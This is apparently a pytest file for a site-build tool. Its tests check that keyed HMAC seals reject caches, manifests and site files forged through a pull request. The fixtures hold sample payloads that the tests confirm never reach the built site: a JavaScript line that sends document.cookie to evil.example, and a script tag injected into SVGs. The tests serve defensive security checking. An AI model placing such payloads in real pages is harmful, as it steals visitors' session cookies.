"""Caches and manifest a pull request cannot forge: seals keyed by a key outside the project.

A pull request can commit ``.ccr-build/`` (and ``site/``). Every file there is sealed with
an HMAC whose key lives in ``$XDG_CACHE_HOME/ccr/build-key``, so a file sealed the way an
attacker can (a plain sha256, or another machine's key: the attacker's own build) is never
used. Here the attacker is a build made with another ``XDG_CACHE_HOME``, whose files are
then changed and sealed again; the victim is the next build with this test's own key.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from benchmark import cache, fsutil, pipeline
from tests.helpers import REPO, files, make_project

FORGED = b"Forged Company"
REAL = b"Synthetic Company 00003"
PLANTED_JS = b"\n;fetch('https://evil.example/?'+document.cookie);\n"
PLANTED_SVG = b"<script>planted()</script>"


@pytest.fixture(autouse=True)
def keyhome(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The test's own ``XDG_CACHE_HOME`` (the victim's), the key read anew before and after."""
    home = tmp_path / "xdg-victim"
    monkeypatch.setenv("XDG_CACHE_HOME", str(home))
    cache.reset_key()
    yield home
    cache.reset_key()


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project of a few companies, never built (each test builds its own copy)."""
    return make_project(tmp_path_factory.mktemp("seal-template"), companies=6)


@pytest.fixture
def project(template: Path, tmp_path: Path) -> Path:
    """A fresh copy of the template project."""
    root = tmp_path / "project"
    shutil.copytree(template, root)
    return root


def build(root: Path, clean: bool = False) -> None:
    """A build of ``root`` (as ``ccr build`` runs it)."""
    pipeline.build(root, options=pipeline.BuildOptions(clean=clean))


def site_text(root: Path) -> bytes:
    """Every file of the built site, joined."""
    return b"\n".join(files(root / "site").values())


# --- the attacker -----------------------------------------------------------------------

Sealer = Callable[[bytes], str]


def old_seal(data: bytes) -> str:
    """The seal anyone can compute: a plain sha256."""
    return hashlib.sha256(data).hexdigest()


def attack(
    root: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    scheme: str,
    plant: Callable[[Path, Sealer], None],
) -> None:
    """The attacker builds ``root`` on their machine, then plants files sealed by ``scheme``.

    ``scheme``: "sha256" (the old, public seal) or "other-key" (the attacker's own key, as
    a file copied from another machine carries). The victim's key is read anew afterwards.
    """
    victim = os.environ["XDG_CACHE_HOME"]
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg-attacker"))
    cache.reset_key()
    build(root)
    plant(root / ".ccr-build", old_seal if scheme == "sha256" else cache.seal)
    monkeypatch.setenv("XDG_CACHE_HOME", victim)
    cache.reset_key()


def forge_parse_cache(work: Path, sealer: Sealer) -> None:
    """Every parse-cache line's data renamed to the forged name, and sealed again."""
    path = work / cache.PARSE_CACHE
    lines = path.read_bytes().split(b"\n")
    out = [lines[0]]
    for line in lines[1:]:
        if line:
            payload = line.partition(b" ")[2].replace(REAL, FORGED)
            out.append(sealer(payload).encode() + b" " + payload)
    assert any(FORGED in line for line in out)
    path.write_bytes(b"\n".join(out) + b"\n")


def forge_exports(work: Path, sealer: Sealer) -> None:
    """Every stored SVG given a script, sealed again; nothing else of the build committed."""
    planted = 0
    for entry in (work / cache.EXPORTS).iterdir():
        content = entry.read_bytes().partition(b"\n")[2]
        if content.startswith(b"<svg"):
            content = content.replace(b">", b">" + PLANTED_SVG, 1)
            seal = sealer(entry.name.encode() + content)
            entry.write_bytes(f"{entry.name} {seal}\n".encode() + content)
            planted += 1
    assert planted
    shutil.rmtree(work / cache.PAGES)
    (work / cache.MANIFEST).unlink()
    shutil.rmtree(work.parent / "site")


def forge_manifest(work: Path, sealer: Sealer) -> None:
    """The MkDocs output in ``site/`` given a script; the manifest says it is up to date."""
    body = json.loads((work / cache.MANIFEST).read_bytes().partition(b"\n")[2])
    scripts = [name for name in body["engine_files"] if name.endswith(".js")]
    assert scripts
    for name in scripts:
        with (work.parent / "site" / name).open("ab") as fh:
            fh.write(PLANTED_JS)
    text = json.dumps(body, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
    (work / cache.MANIFEST).write_text(sealer(text.encode()) + "\n" + text)


SCHEMES = ["sha256", "other-key"]


@pytest.mark.slow
@pytest.mark.parametrize("scheme", SCHEMES)
def test_a_planted_parse_cache_line_is_not_used(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, scheme: str
) -> None:
    """The company page shows the YAML's name, never the one the planted line maps it to."""
    attack(project, tmp_path, monkeypatch, scheme, forge_parse_cache)
    build(project)
    page = project / "site" / "companies" / "synthetic-00003" / "index.html"
    assert REAL in page.read_bytes()
    assert FORGED not in site_text(project)


@pytest.mark.slow
@pytest.mark.parametrize("scheme", SCHEMES)
def test_a_planted_export_is_not_used(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, scheme: str
) -> None:
    """A stored SVG carrying a script is drawn again: the script never reaches the site."""
    attack(project, tmp_path, monkeypatch, scheme, forge_exports)
    build(project)
    assert b"<svg" in site_text(project)
    assert PLANTED_SVG not in site_text(project)


@pytest.mark.slow
@pytest.mark.parametrize("scheme", SCHEMES)
def test_a_planted_manifest_and_site_are_not_used(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, scheme: str
) -> None:
    """A manifest claiming the planted MkDocs output is current: the site equals a clean one."""
    reference = tmp_path / "reference"
    shutil.copytree(project, reference)
    build(reference, clean=True)
    attack(project, tmp_path, monkeypatch, scheme, forge_manifest)
    build(project)
    assert PLANTED_JS not in site_text(project)
    assert files(project / "site") == files(reference / "site")


# --- the key file -----------------------------------------------------------------------


def key_file(home: Path) -> Path:
    """Where the key lives below ``home`` (an ``XDG_CACHE_HOME``)."""
    return home / "ccr" / cache.KEY_FILE


def test_the_key_is_made_private_once_and_reused(keyhome: Path) -> None:
    """Made 0600 with 32 random bytes on first use; later runs read the same key."""
    path = key_file(keyhome)
    assert cache.key_path() == path
    assert not path.exists()
    key = cache.build_key()
    assert cache.key_is_shared()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.read_bytes() == key
    assert len(key) == cache.KEY_SIZE
    cache.reset_key()
    assert cache.build_key() == key
    assert cache.seal(b"x") != old_seal(b"x")
    assert [p.name for p in path.parent.iterdir()] == [cache.KEY_FILE]  # no temp file left


def _link(path: Path) -> None:
    target = path.parent / "elsewhere"
    target.write_bytes(b"k" * cache.KEY_SIZE)
    target.chmod(0o600)
    path.symlink_to(target)


def _mode(mode: int, size: int = cache.KEY_SIZE) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_bytes(b"k" * size)
        path.chmod(mode)

    return make


def _folder(path: Path) -> None:
    path.mkdir()


UNTRUSTED: dict[str, Callable[[Path], None]] = {
    "symlink": _link,
    "group-writable": _mode(0o620),
    "others-writable": _mode(0o602),
    "readable-by-others": _mode(0o644),  # as git checks a committed file out
    "too-short": _mode(0o600, cache.KEY_SIZE - 1),
    "too-long": _mode(0o600, cache.KEY_SIZE + 1),
    "a-folder": _folder,
}


@pytest.mark.parametrize("harm", sorted(UNTRUSTED))
def test_a_key_file_not_ours_alone_is_not_trusted(keyhome: Path, harm: str) -> None:
    """A link, a file others can touch or read, a wrong size: a key of this run's own."""
    path = key_file(keyhome)
    path.parent.mkdir(parents=True)
    UNTRUSTED[harm](path)
    before = os.lstat(path)
    key = cache.build_key()
    assert not cache.key_is_shared()
    assert key != b"k" * cache.KEY_SIZE
    assert len(key) == cache.KEY_SIZE
    assert os.lstat(path).st_mtime_ns == before.st_mtime_ns  # left as it was
    cache.reset_key()
    assert cache.build_key() != key  # nothing sealed by an earlier run is trusted


def test_no_home_means_a_key_of_our_own(monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither XDG_CACHE_HOME nor HOME: no key file, a random key for this run."""
    monkeypatch.delenv("XDG_CACHE_HOME")
    monkeypatch.delenv("HOME", raising=False)
    assert cache.key_path() is None
    key = cache.build_key()
    assert not cache.key_is_shared()
    cache.reset_key()
    assert cache.build_key() != key


def test_a_home_where_nothing_can_be_made_means_a_key_of_our_own(keyhome: Path) -> None:
    """The key cannot be made (XDG_CACHE_HOME is a file): a random key for this run."""
    keyhome.write_bytes(b"")
    key = cache.build_key()
    assert not cache.key_is_shared()
    assert not key_file(keyhome).exists()
    cache.reset_key()
    assert cache.build_key() != key


def test_a_key_inside_the_project_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """XDG_CACHE_HOME inside the project (whose files a PR writes): the key file is dropped."""
    root = tmp_path / "repo"
    monkeypatch.setenv("XDG_CACHE_HOME", str(root / ".cache"))
    cache.reset_key()
    key = cache.build_key()
    assert cache.key_is_shared()
    cache.guard_key(tmp_path / "elsewhere")
    assert cache.key_is_shared()
    cache.read_manifest(root / ".ccr-build")
    assert not cache.key_is_shared()
    assert cache.build_key() != key


RACER = "import sys; from benchmark import cache; sys.stdout.write(cache.build_key().hex())"


def test_racing_processes_end_with_one_key(keyhome: Path) -> None:
    """Processes making the key at once all use one key: the one in the file."""
    env = {**os.environ, "XDG_CACHE_HOME": str(keyhome)}
    racers = [
        subprocess.Popen([sys.executable, "-c", RACER], cwd=REPO, env=env, stdout=subprocess.PIPE)
        for _ in range(6)
    ]
    keys = {racer.communicate()[0] for racer in racers}
    assert keys == {key_file(keyhome).read_bytes().hex().encode()}
    assert [p.name for p in key_file(keyhome).parent.iterdir()] == [cache.KEY_FILE]


@pytest.mark.slow
def test_an_untrusted_key_still_builds_correctly(project: Path, keyhome: Path) -> None:
    """With a key file not trusted, builds are full ones, and equal a clean build."""
    path = key_file(keyhome)
    path.parent.mkdir(parents=True)
    _mode(0o666)(path)
    build(project, clean=True)
    reference = files(project / "site")
    cache.reset_key()  # the next run
    work = project / ".ccr-build"
    assert cache.read_manifest(work) == {}
    assert cache.ParseCache.read(work / cache.PARSE_CACHE).entries == {}
    build(project)
    assert files(project / "site") == reference


def test_read_regular_gives_none_for_a_folder(tmp_path: Path) -> None:
    """A folder planted as `.ccr-build/manifest.json/` reads as nothing: no build stops on it."""
    planted = tmp_path / ".ccr-build" / "manifest.json"
    planted.mkdir(parents=True)
    assert fsutil.read_regular(planted) is None
    assert cache.read_manifest(tmp_path / ".ccr-build") == {}


def test_a_seal_read_is_written_again_only_under_its_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Unchanged lines keep the seal they were read with, unless the key changed since."""
    store = tmp_path / "project" / ".ccr-build" / "parse-cache.jsonl"  # the key is not in it
    store.parent.mkdir(parents=True)
    raw = b"slug: acme\n"
    first = cache.ParseCache()
    first.put(raw, {"slug": "acme"})
    first.write(store)
    written = store.read_bytes()
    again = cache.ParseCache.read(store)
    assert again.get(raw) == {"slug": "acme"}
    again.write(store)
    assert store.read_bytes() == written
    again = cache.ParseCache.read(store)
    again.get(raw)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg-other"))
    cache.reset_key()  # another key between reading and writing: every line sealed anew
    again.write(store)
    assert cache.ParseCache.read(store).get(raw) == {"slug": "acme"}


class _Text(str):
    """A string that is not exactly a str (JSON would give back a plain one)."""


@pytest.mark.parametrize(
    "data",
    [
        {"audits": [{"probes": ({"channel": "email"},)}]},  # a tuple, deep down
        {"audits": [{1: "one"}]},  # a key that is not a string
        {"audits": [{"channels": {"email"}}]},  # a set
        {"slug": _Text("acme")},  # a subclass of str
        {"audits": [[[b"bytes"]]]},
    ],
)
def test_the_parse_cache_keeps_only_data_json_gives_back(data: object) -> None:
    """Data JSON would not give back exactly is not kept; plain data, however deep, is."""
    raw = b"slug: acme\n"
    found = cache.ParseCache()
    found.put(raw, data)
    assert found.used == {}
    plain = {"slug": "acme", "n": [1, 2.5, True, None, {"deep": [[["x"]]]}]}
    found.put(raw, plain)
    assert cache.ParseCache(dict(found.used)).get(raw) == plain


def test_the_manifest_is_read_once_while_it_is_the_same_file(tmp_path: Path) -> None:
    """The page cache's read and the build's share one body, only while the file is the same.

    A manifest written (or put there) between the two reads is read again: the body of the
    file read first is never taken for another file.
    """
    work = tmp_path / "repo" / ".ccr-build"  # the key (in tmp_path) outside the project
    work.mkdir(parents=True)
    cache.write_manifest(work, {"files": {"a.md": "1"}})
    first = cache.read_manifest(work)
    assert first["files"] == {"a.md": "1"}
    assert cache.read_manifest(work) is first  # the same file: read once
    assert cache.read_manifest(work) is not first  # taken once only, then read again
    cache.write_manifest(work, {"files": {"a.md": "2"}})  # another file since that read
    assert cache.read_manifest(work)["files"] == {"a.md": "2"}
    cache.read_manifest(work)
    os.unlink(work / cache.MANIFEST)
    assert cache.read_manifest(work) == {}


def test_a_manifest_is_read_only_under_its_seal(tmp_path: Path) -> None:
    """The manifest's first line seals the JSON text after it: a plain sha256 never holds."""
    work = tmp_path / "repo" / ".ccr-build"  # the key (in tmp_path) outside the project
    work.mkdir(parents=True)
    cache.write_manifest(work, {"files": {"a.md": "1"}})
    raw = (work / cache.MANIFEST).read_bytes()
    assert cache.read_manifest(work)["files"] == {"a.md": "1"}
    text = raw.partition(b"\n")[2].replace(b'"1"', b'"2"')
    for check in (hashlib.sha256(text).hexdigest().encode(), raw.partition(b"\n")[0]):
        (work / cache.MANIFEST).write_bytes(check + b"\n" + text)
        assert cache.read_manifest(work) == {}
    (work / cache.MANIFEST).write_bytes(cache.seal(text).encode() + b"\n" + text)
    assert cache.read_manifest(work)["files"] == {"a.md": "2"}
